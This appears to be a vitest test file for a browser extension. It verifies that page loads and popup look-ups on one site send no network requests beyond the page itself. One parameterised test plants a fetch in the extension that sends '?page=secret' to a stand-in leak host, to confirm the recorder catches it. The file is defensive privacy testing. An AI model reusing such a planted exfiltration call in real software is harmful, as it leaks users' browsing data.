/** No look-up makes a request: every request of the whole browser is recorded. */
import { beforeAll, expect, test } from 'vitest'
import { until } from '../harness/until.ts'
import { expectBadge, requestsSince } from '../support/browser.ts'
import { readPopup } from '../support/popup-view.ts'
import { OTHERS, PAGE } from '../support/sample.ts'
import { UNKNOWN, useSample } from './setup.ts'

const world = useSample()

beforeAll(() => world.browser.grant(['https://*.elmoudjaweb.com/*', 'http://*.elmoudjaweb.com/*']))

/** Requests for anything but the page itself. */
const others = (from: number, page: string) =>
  requestsSince(world.site, from).filter(({ url }) => url !== page)

test('from page load to the list, only the page is requested', async () => {
  const from = world.site.seen.length
  const page = await world.browser.open(PAGE.webUrl)
  await expectBadge(page, String(OTHERS.length))
  const popup = await page.pressShortcut()
  expect((await readPopup(popup)).state).toBe('story')
  expect(requestsSince(world.site, from).some(({ url }) => url === PAGE.webUrl)).toBe(true)
  expect(others(from, PAGE.webUrl)).toEqual([])
  await popup.close()
  await page.close()
})

test('a page in no index causes no request either', async () => {
  const from = world.site.seen.length
  const page = await world.browser.open(UNKNOWN.here)
  const popup = await page.pressShortcut()
  expect((await readPopup(popup)).state).not.toBe('story')
  expect(others(from, UNKNOWN.here)).toEqual([])
  await popup.close()
  await page.close()
})

test.each(['https://leak.example/', 'http://leak.example/', 'https://leak.example:8443/'])(
  'a fetch planted in the extension to %s is recorded',
  async (leak) => {
    const from = world.site.seen.length
    await world.browser.extension.evaluate(
      (url) =>
        fetch(url, { mode: 'no-cors' }).then(
          () => {},
          () => {},
        ),
      `${leak}?page=secret`,
    )
    await until('the planted request', () =>
      requestsSince(world.site, from).some(({ url }) => url.includes('leak.example')),
    )
  },
)
